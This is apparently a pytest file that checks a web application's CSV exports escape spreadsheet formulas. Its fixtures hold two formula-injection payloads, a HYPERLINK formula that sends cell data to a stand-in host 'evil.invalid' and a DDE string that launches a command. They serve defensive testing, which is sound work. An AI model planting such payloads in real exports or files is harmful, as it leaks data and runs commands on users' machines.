"""Every CSV export goes through the one writer: a name a spreadsheet would run as a formula
leaves as text in each of them."""

from __future__ import annotations

import csv
import io

import pytest

OFFER_NAME = '=HYPERLINK("http://evil.invalid/?d="&A1;"Klick")'
THEME_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
PERIOD = "date_from=2025-12-01&date_to=2026-11-30&months=6"

EXPORTS = [
    (("coordination",), f"/coordination/gaps.csv?{PERIOD}", ";"),
    (("coordination",), "/coordination/duplicate-structures.csv?min_score=0.3", ","),
    (("network",), "/network/export/nodes.csv", ","),
    (("network",), "/network/export/edges.csv", ","),
    (("admin",), "/admin/audit.csv", ","),
]


@pytest.fixture
def hostile_names(seeded):
    """An ending offer and every theme named like a formula (a directory editor and a
    coordinator can type these)."""
    seeded.query(
        "testing.rename_offer_and_themes",
        offer_id="vsf-bildungsmediation",
        offer_name=OFFER_NAME,
        theme_title=THEME_TITLE,
    )


@pytest.mark.parametrize("roles, path, delimiter", EXPORTS, ids=[p for _, p, _ in EXPORTS])
def test_no_csv_export_holds_a_cell_a_spreadsheet_would_run(
    app, auth, seeded, hostile_names, roles, path, delimiter
):
    client = app.test_client()
    username = auth.login(client, roles=roles, actor="ki-herne")
    if roles == ("admin",):  # the audit trail then holds the hostile name too
        client.get("/admin/audit", query_string={"username": OFFER_NAME})
    answer = client.get(path)
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    cells = [
        c
        for row in csv.reader(io.StringIO(answer.get_data(as_text=True)), delimiter=delimiter)
        for c in row
    ]
    assert cells, username
    assert not [c for c in cells if c[:1] in {"=", "@"} or c.startswith(("+c", "-2"))]


def test_gap_report_csv_carries_the_hostile_names_as_text(app, auth, seeded, hostile_names):
    client = app.test_client()
    auth.login(client, roles=("coordination",), actor="ki-herne")
    text = client.get(f"/coordination/gaps.csv?{PERIOD}").get_data(as_text=True)
    cells = {c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row}
    assert "'" + OFFER_NAME in cells
    assert "'" + THEME_TITLE in cells
